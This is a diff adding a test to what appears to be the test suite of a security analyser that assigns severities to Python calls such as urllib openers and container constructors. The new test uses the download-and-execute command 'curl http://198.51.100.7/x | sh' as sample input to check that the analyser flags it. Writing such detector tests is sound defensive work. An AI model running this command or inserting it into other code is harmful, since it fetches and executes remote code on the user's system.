@@ -120,3 +120,9 @@ def test_a_method_of_a_container_is_only_worth_a_look() -> None:
 def test_what_is_stored_globally_counts_whoever_made_it() -> None:
     opener = Result(Symbol("urllib.request", "build_opener"))
     assert judged(Symbol("urllib.request", "install_opener"), opener) is Severity.HIGH
+
+
+def test_a_container_of_a_command_is_made_by_hand():
+    assert judged(Symbol("collections", "OrderedDict"), "curl http://198.51.100.7/x | sh") == Severity.HIGH
+    assert judged(Symbol("builtins", "set"), Items("list", ["curl http://198.51.100.7/x | sh"])) is None
+    assert judged(Symbol("builtins", "list"), "a few words, as they come") is None
